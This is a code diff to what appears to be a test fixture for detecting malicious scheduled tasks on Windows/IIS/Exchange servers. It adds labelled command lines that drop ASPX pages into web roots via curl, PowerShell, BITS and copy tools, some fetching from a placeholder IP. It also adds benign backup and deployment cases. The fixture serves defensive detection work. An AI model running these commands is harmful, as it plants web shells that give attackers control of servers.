@@ -64,7 +64,37 @@ _ODD_TASKS = {
         "cmd.exe",
         r"/c copy C:\Tools\a.txt C:\PROGRA~1\Microsoft\EXCHAN~1\V15\FrontEnd\HttpProxy\owa\auth\e.aspx",
     ),
+    "page written by curl": ("curl.exe", r"-o C:\inetpub\wwwroot\aspnet_client\x.aspx ht·tp://192.0.2.7/x"),
+    "page written by xcopy": ("xcopy.exe", r"C:\Windows\Temp\a.aspx C:\inetpub\wwwroot /y"),
+    "page written by copy": ("cmd", r"/c copy /y D:\Tools\a.txt C:\inetpub\wwwroot\e.aspx"),
+    "page written by robocopy": ("robocopy", r"C:\Tools C:\inetpub\wwwroot a.ashx /np"),
+    "page written by PowerShell": (
+        _POWERSHELL,
+        r"-c Invoke-WebRequest ht·tp://192.0.2.7/x -OutFile 'C:\inetpub\wwwroot\x.aspx'",
+    ),
+    "page written by Copy-Item": (_POWERSHELL, r"-c Copy-Item -Destination C:\inetpub\wwwroot -Path D:\Tools\a.asmx"),
+    "page written by BITS": (_POWERSHELL, r"-c Start-BitsTransfer ht·tp://192.0.2.7/x C:\inetpub\wwwroot\x.aspx"),
+    "page written by echo": ("cmd", r"/c type D:\Tools\a.txt > C:\inetpub\wwwroot\aspnet_client\e.aspx"),
     "configuration written": (r"C:\Windows\System32\inetsrv\appcmd.exe", "add module /name:W /type:W.M,W"),
+}  # fmt: skip
+
+_HONEST_COPIES = {
+    "backup of a site": ("robocopy.exe", r"C:\inetpub\wwwroot D:\Backup\wwwroot /mir"),
+    "backup of a page": ("cmd.exe", r"/c copy /y C:\inetpub\wwwroot\default.aspx D:\Backup\inetpub\wwwroot"),
+    "backup of a configuration": ("cmd.exe", r"/c xcopy C:\inetpub\wwwroot\web.config D:\Backup\ /y"),
+    "backup of libraries": (_POWERSHELL, r"-c Copy-Item C:\inetpub\wwwroot\bin\a.dll D:\Backup\a.dll"),
+    "deployment to another folder": ("xcopy.exe", r"D:\Build\a.aspx D:\Sites\shop /y"),
+    "deployment of a folder": ("robocopy.exe", r"D:\Build\shop C:\inetpub\wwwroot\shop *.aspx /mir"),
+    "check of health": ("curl.exe", "-s -o NUL https://mail.contoso.example/owa/healthcheck.htm"),
+    "check of a page": (
+        "curl.exe",
+        r"-k https://mail.contoso.example/owa/auth/logon.aspx -o C:\Windows\Temp\health.txt",
+    ),
+    "state for monitoring": (
+        _POWERSHELL,
+        r"-c Invoke-WebRequest https://localhost/a.aspx -OutFile C:\inetpub\wwwroot\state.html",
+    ),
+    "logs are moved": ("cmd.exe", r"/c move C:\inetpub\logs\LogFiles\W3SVC1\a.log D:\Logs"),
 }  # fmt: skip
 
 REPOSITORY: Final = "C/Windows/System32/wbem/Repository/OBJECTS.DATA"
@@ -238,6 +268,7 @@ PLANTS: tuple[Plant, ...] = (
     honest(42, "task: backup of Windows Server", _of_windows("Backup/Microsoft-Windows-WindowsBackup", r"%windir%\System32\wbadmin.exe", "start backup -templateId:{7ebb4591-9c90-453e-b961-1607a5656f03} -quiet")),
     honest(42, "task: logs of IIS are cleaned by PowerShell", task("Clean logs", "powershell.exe", r'-ExecutionPolicy Bypass -File "C:\Scripts\Clean-Logs.ps1" -Path C:\inetpub\logs\LogFiles -Days 30')),
     honest(42, "task: logs of IIS are cleaned by forfiles", task("Clean logs", "forfiles.exe", r'/p "C:\inetpub\logs\LogFiles" /s /m *.log /d -30 /c "cmd /c del @path"')),
+    *(honest(42, f"task: {name}", task("Site", *words)) for name, words in _HONEST_COPIES.items()),
     honest(42, "task: temporary files are removed", task("Clean temp", "powershell.exe", r'-NoProfile -Command "Get-ChildItem C:\Windows\Temp -Recurse | Remove-Item -Force"')),
     honest(42, "task: report of Exchange", task("Mailbox report", _POWERSHELL, r'''-NonInteractive -WindowStyle Hidden -Command ". 'C:\Program Files\Microsoft\Exchange Server\V15\bin\RemoteExchange.ps1'; Connect-ExchangeServer -auto; C:\Scripts\Report.ps1"''')),
     honest(42, "task: a service is started anew", task("Restart transport", "net.exe", "start MSExchangeTransport")),
